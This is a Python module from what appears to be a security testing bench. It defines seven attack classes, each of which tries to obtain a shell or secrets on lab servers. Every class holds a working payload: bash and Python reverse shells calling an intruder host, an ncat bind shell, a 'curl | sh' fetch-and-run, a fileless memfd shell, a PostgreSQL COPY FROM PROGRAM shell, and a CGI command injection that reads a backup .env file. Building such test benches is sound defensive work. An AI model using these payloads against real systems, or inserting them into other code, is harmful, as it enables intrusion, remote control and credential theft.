# SPDX-License-Identifier: GPL-2.0
"""Shells, of several kinds."""

from bench.attacks.attack import PROOF, PROVE, ByApp, ByPhp, Attack
from bench.clients import sql, web
from bench.net import HOST, INTRUDER, ask
from bench.patience import wait


class PhpReverse(ByPhp):
    """A bash that calls home."""

    name = "shell-php-reverse"
    is_quiet = True

    def setup(self):
        super().setup()
        self.home = self.listen(4444, PROVE)

    def run(self):
        self.aside(self.php, f"system('bash -c \"bash -i >& /dev/tcp/{INTRUDER}/4444 0>&1\"');")
        self.home.wait(PROOF)

    def damaged(self):
        return PROOF in self.home.got


class PhpBind(ByPhp):
    """A shell that listens."""

    name = "shell-php-bind"
    is_quiet = True

    def run(self):
        self.aside(self.php, f"system('timeout 20 ncat -l {HOST} 4446 -e /bin/sh');")

        def comes():
            try:
                self.loot += ask(4446, PROVE, seconds=5)
            except OSError:
                pass
            return PROOF in self.loot

        wait(comes, 15, 0.5)

    def damaged(self):
        return PROOF in self.loot


class AppDownload(ByApp):
    """What the worms do: a script is fetched and run."""

    name = "shell-app-download"
    is_quiet = True

    def setup(self):
        script = f"curl -s http://{INTRUDER}:4448/shell-$((41 + 1))\n".encode()
        self.listen(4447, b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(script), script))
        self.home = self.listen(4448, b"HTTP/1.0 204 No Content\r\nContent-Length: 0\r\n\r\n")

    def run(self):
        self.shell(f"curl -s http://{INTRUDER}:4447/p | sh")

    def damaged(self):
        return PROOF in self.home.got


class AppPython(ByApp):
    """The process makes a child and turns it into a shell on a connection of its own."""

    name = "shell-app-python"
    is_quiet = True

    def setup(self):
        self.home = self.listen(4449, PROVE)

    def run(self):
        self.aside(self.python, f"""
import os, socket
sock = socket.create_connection(({INTRUDER!r}, 4449), 10)
if os.fork() == 0:
    os.setsid()
    for n in range(3):
        os.dup2(sock.fileno(), n)
    os.execv("/bin/sh", ["sh"])
""")
        self.home.wait(PROOF)

    def damaged(self):
        return PROOF in self.home.got


class AppMemory(ByApp):
    """A program that is in no file system, and which was never on the disk."""

    name = "shell-app-memfd"
    is_quiet = True

    def setup(self):
        self.home = self.listen(4450, PROVE)

    def run(self):
        self.aside(self.python, f"""
import os, socket
sock = socket.create_connection(({INTRUDER!r}, 4450), 10)
file = os.memfd_create("x", 0)
os.write(file, open("/usr/bin/busybox", "rb").read())
if os.fork() == 0:
    os.setsid()
    for n in range(3):
        os.dup2(sock.fileno(), n)
    os.execve("/proc/self/fd/%d" % file, ["sh"], {{}})
""")
        self.home.wait(PROOF)

    def damaged(self):
        return PROOF in self.home.got


class PostgresProgram(Attack):
    """COPY FROM PROGRAM, by somebody who has the password of the superuser."""

    name = "shell-postgres-program"
    servers = ("postgresql",)
    is_quiet = True

    def setup(self):
        self.home = self.listen(4451, PROVE)

    def run(self):
        self.aside(
            sql.once, "CREATE TEMP TABLE t (x text); COPY t FROM PROGRAM "
            f"'timeout 20 bash -c \"exec bash >& /dev/tcp/{INTRUDER}/4451 0>&1\"'", INTRUDER,
        )
        self.home.wait(PROOF)

    def damaged(self):
        return PROOF in self.home.got


class ApacheScript(Attack):
    """A script whose shell is used all the time is made to run one more program."""

    name = "shell-apache-cgi"
    servers = ("apache",)
    is_quiet = True

    def run(self):
        self.loot = web.get("/cgi-bin/status.cgi?path=/srv;cat%20/srv/private/backup.env;id", 8080, INTRUDER)[1]

    def damaged(self):
        return self.secret("backup") in self.loot or b"uid=" in self.loot


ATTACKS = [PhpReverse, PhpBind, AppDownload, AppPython, AppMemory, PostgresProgram, ApacheScript]
